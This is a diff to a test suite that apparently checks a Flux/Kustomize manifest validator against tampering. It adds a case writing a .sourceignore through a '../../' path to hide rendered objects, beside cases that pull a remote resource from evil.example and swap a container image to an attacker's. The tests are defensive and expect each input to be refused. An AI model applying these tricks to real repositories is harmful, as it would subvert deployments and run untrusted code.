@@ -265,6 +265,9 @@ ATTACKS = {
     "a kustomization that Flux would read": Attack(
         write({"rendered/kustomization.yaml": "resources: [https://evil.example/x]\n"}), refused="KG0607", render=False
     ),
+    "a .sourceignore at the top, with which Flux leaves objects out": Attack(
+        write({"../../.sourceignore": f"{BELOW}/rendered/ml/\n"}), refused="KG0607", render=False
+    ),
     "an edited manifest": Attack(
         lambda checkout: checkout.edit(f"{MANIFESTS}/job.yaml", "example.com/tune:1", "evil.example/x:1"),
         refused="stale",
